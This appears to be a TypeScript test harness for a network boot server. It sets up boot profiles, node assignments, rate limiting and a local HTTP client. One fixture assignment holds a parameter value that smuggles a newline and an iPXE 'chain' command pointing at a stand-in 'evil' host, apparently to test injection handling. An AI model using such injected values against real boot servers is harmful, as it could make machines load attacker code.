// A boot server over in-memory caches on a real socket, with a handful of profiles and
// assignments, for the server's tests (behaviour and fuzzing).
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { request, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { BootProfile } from '../api/v1alpha1/boot-profile.js';
import type { NodeBootAssignment } from '../api/v1alpha1/node-boot-assignment.js';
import { silentLogger } from '../observability/logger.js';
import { MemoryStore } from '../store/memory-store.js';
import { AssetCache } from './assets.js';
import { BootRecorder } from './boot-recorder.js';
import { CidrAllowlist, ClientRateLimiter, ConcurrencyCap } from './guard.js';
import { addBootIndexes, addSessionIndexes } from './indexes.js';
import { dhcpNetworkConfig } from './start.js';
import { BootServer, type BootServerOptions } from './server.js';
import { UrlSigner } from './signed-url.js';

export const MAC = '52:54:00:12:34:56';

export function profile(name: string, spec: Partial<BootProfile['spec']>): BootProfile {
  return { apiVersion: 'bootplane.io/v1alpha1', kind: 'BootProfile', metadata: { name, namespace: 'lab' }, spec: { type: 'ipxeTemplate', firmware: ['bios', 'uefi'], public: false, unattended: false, localBoot: 'exit', ...spec } };
}

export function assignment(name: string, spec: Partial<NodeBootAssignment['spec']>): NodeBootAssignment {
  return { apiVersion: 'bootplane.io/v1alpha1', kind: 'NodeBootAssignment', metadata: { name, namespace: 'lab', creationTimestamp: '2026-01-01T00:00:00Z' }, spec: { profileRef: { name: 'shell' }, bootMode: 'Always', bootOnceEpoch: 0, state: 'Enabled', ...spec } };
}

export interface Answer {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: string;
}

export function get(port: number, path: string, options: { headers?: Record<string, string>; method?: string; localAddress?: string } = {}): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const req = request({ host: '127.0.0.1', port, path, method: options.method ?? 'GET', headers: options.headers, localAddress: options.localAddress, agent: false }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers, body: Buffer.concat(chunks).toString() }));
    });
    req.on('error', reject);
    req.end();
  });
}

export interface Harness {
  store: MemoryStore;
  server: BootServer;
  recorder: BootRecorder;
  http: Server;
  port: number;
}

export async function harness(overrides: Partial<BootServerOptions> = {}): Promise<Harness> {
  const store = new MemoryStore();
  addBootIndexes(store.cache('NodeBootAssignment'), store.cache('BootProfile'));
  addSessionIndexes(store.cache('DisklessSession'));
  const assetDir = mkdtempSync(join(tmpdir(), 'boot-assets-'));
  mkdirSync(join(assetDir, 'rescue'));
  writeFileSync(join(assetDir, 'rescue', 'vmlinuz'), Buffer.from('0123456789abcdef'));
  store.put('BootProfile', profile('shell', { ipxeTemplate: 'echo hello {{greeting}}\nshell', parameters: { greeting: 'there' } }));
  store.put('BootProfile', profile('rescue', { type: 'kernel', public: true, kernel: { kernel: { path: 'rescue/vmlinuz' }, cmdline: 'console=ttyS0' } }));
  store.put('BootProfile', profile('installer', { type: 'kernel', unattended: true, kernel: { kernel: { path: 'rescue/vmlinuz' }, cmdline: 'autoinstall' } }));
  store.put('BootProfile', profile('once', { ipxeTemplate: 'echo install', localBoot: 'notFound' }));
  store.put('BootProfile', profile('fcos', { type: 'kernel', kernel: { kernel: { path: 'rescue/vmlinuz' }, cmdline: 'ignition.config.url={{ignitionUrl}}' } }));
  store.put('NodeBootAssignment', assignment('node-1', { mac: MAC }));
  store.put('NodeBootAssignment', assignment('by-uuid', { uuid: '4C4C4544-0042-3510-8052-B3C04F4E4E31' }));
  store.put('NodeBootAssignment', assignment('bad-param', { mac: '52:54:00:00:00:99', parameters: { greeting: 'x\nchain http://evil/' } }));
  store.put('NodeBootAssignment', assignment('once-1', { mac: '52:54:00:00:00:01', profileRef: { name: 'once' }, bootMode: 'Once', bootOnceEpoch: 1 }));
  store.put('NodeBootAssignment', assignment('disabled', { mac: '52:54:00:00:00:02', state: 'Disabled' }));
  store.put('NodeBootAssignment', assignment('fcos-1', { mac: '52:54:00:00:00:03', profileRef: { name: 'fcos' }, ignitionSecretRef: { name: 'fcos-1-ignition', key: 'config.ign' } }));
  store.secrets.set('lab/fcos-1-ignition', { 'config.ign': '{"ignition":{"version":"3.4.0"}}' });
  const recorder = new BootRecorder(store, silentLogger(), 0);
  const server = new BootServer({
    store,
    log: silentLogger(),
    recorder,
    signer: new UrlSigner(Buffer.alloc(32, 1)),
    assets: new AssetCache({ directory: mkdtempSync(join(tmpdir(), 'boot-cache-')), maxBytes: 1 << 20 }),
    assetDirectory: assetDir,
    fallback: 'menu',
    allowlist: new CidrAllowlist([]),
    rateLimiter: new ClientRateLimiter(0, 1),
    concurrency: new ConcurrencyCap(100),
    networkConfig: dhcpNetworkConfig,
    ...overrides,
  });
  const http = await server.listen(0, '127.0.0.1');
  const address = http.address();
  return { store, server, recorder, http, port: typeof address === 'object' && address ? address.port : 0 };
}

